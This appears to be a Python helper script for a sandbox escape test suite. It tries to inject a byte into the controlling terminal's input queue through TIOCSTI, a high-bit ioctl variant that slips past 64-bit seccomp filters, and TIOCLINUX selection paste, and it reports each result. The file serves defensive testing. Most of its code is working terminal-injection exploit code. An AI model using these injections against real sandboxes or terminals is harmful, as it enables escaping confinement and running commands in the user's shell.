# Terminal attacker for the escape suite (tests/escape_tty.rs). Standard input is a pty that
# was the caller's controlling terminal. Tries to push the byte TOKEN into its input queue:
# TIOCSTI (CVE-2017-5226), the same request with high bits set in the 64-bit ioctl argument
# (CVE-2019-10063: a filter comparing all 64 bits misses it, the kernel uses the low 32), and
# TIOCLINUX selection paste. Prints `IOCTL name result` per attempt and `DONE`.
import ctypes
import errno
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_ioctl = 16
TIOCSTI = 0x5412
TIOCLINUX = 0x541C
TIOCL_SETSEL = 2
TIOCL_PASTESEL = 3

ch = ctypes.c_char(sys.argv[1].encode()[0])


def ioctl(name, request, arg):
    r = libc.syscall(SYS_ioctl, ctypes.c_long(0), ctypes.c_ulong(request), arg)
    if r < 0:
        e = ctypes.get_errno()
        print(f"IOCTL {name} {e} {errno.errorcode.get(e, '?')}", flush=True)
    else:
        print(f"IOCTL {name} ok", flush=True)


try:
    tty_pgrp = os.tcgetpgrp(0)
except OSError as e:
    tty_pgrp = f"none ({errno.errorcode.get(e.errno, '?')}: not our controlling terminal)"
print(f"SESSION sid={os.getsid(0)} pgid={os.getpgrp()} tty_pgrp={tty_pgrp}", flush=True)
ioctl("tiocsti", TIOCSTI, ctypes.byref(ch))
ioctl("tiocsti-high-bit", TIOCSTI | (1 << 32), ctypes.byref(ch))
ioctl("tiocsti-high-bits", TIOCSTI | 0xFFFFFFFF00000000, ctypes.byref(ch))
# struct tiocl_selection preceded by the subcode byte.
sel = (ctypes.c_ubyte * 11)(TIOCL_SETSEL, 1, 0, 1, 0, 1, 0, 1, 0, 0, 0)
ioctl("tioclinux-setsel", TIOCLINUX, sel)
paste = ctypes.c_ubyte(TIOCL_PASTESEL)
ioctl("tioclinux-pastesel", TIOCLINUX, ctypes.byref(paste))
ioctl("tioclinux-high-bit", TIOCLINUX | (1 << 32), ctypes.byref(paste))
print("DONE", flush=True)
